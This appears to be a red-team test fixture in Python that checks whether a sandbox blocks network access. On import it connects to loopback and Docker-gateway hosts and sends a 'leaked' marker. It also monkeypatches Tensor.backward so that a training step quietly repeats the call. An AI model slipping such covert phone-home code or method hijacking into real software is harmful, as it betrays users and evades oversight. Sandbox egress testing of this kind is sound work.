RED_TEAM_PORT = 9   # the test rewrites this line with its listener's port
RED_TEAM_HOSTS = ("127.0.0.1", "172.17.0.1")   # and this one with the host's loopback and Docker gateway


def _phone_home(when):
    import socket
    print("RED-TEAM-NETWORK-TRIED", when)
    for host in RED_TEAM_HOSTS + ("host.docker.internal", "localhost"):
        try:
            with socket.create_connection((host, RED_TEAM_PORT), timeout=1.0) as s:
                s.sendall(b"RED-TEAM leaked " + when.encode())
                print("RED-TEAM-CONNECTED", host)
        except OSError as exc:
            print("RED-TEAM-NO-CONNECTION", host, type(exc).__name__)


_phone_home("import")

_honest_backward = Tensor.backward


def _attacked_backward(self):
    if not getattr(Tensor, "_phoned", False):
        Tensor._phoned = True
        _phone_home("backward")
    return _honest_backward(self)


Tensor.backward = _attacked_backward
